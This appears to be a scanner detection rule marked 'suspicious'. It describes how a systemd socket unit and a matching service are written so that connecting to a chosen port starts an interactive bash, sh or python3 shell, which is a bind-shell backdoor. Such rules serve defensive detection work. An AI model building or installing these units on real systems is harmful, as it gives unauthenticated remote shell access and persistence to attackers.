# id: P512
# mode: scan
# level: suspicious
# title: a socket unit that gives a shell
# due: now
word name
some_port port
unit=/etc/systemd/system/$name
printf '[Socket]\nListenStream=%s\nAccept=yes\n[Install]\nWantedBy=sockets.target\n' "$port" >"$unit.socket"
pick shell '/bin/bash -i' /bin/sh '/usr/bin/python3 -i'
printf '[Service]\nExecStart=-%s\nStandardInput=socket\n' "$shell" >"$unit@.service"
said path "$unit@.service"
said path "$unit.socket"
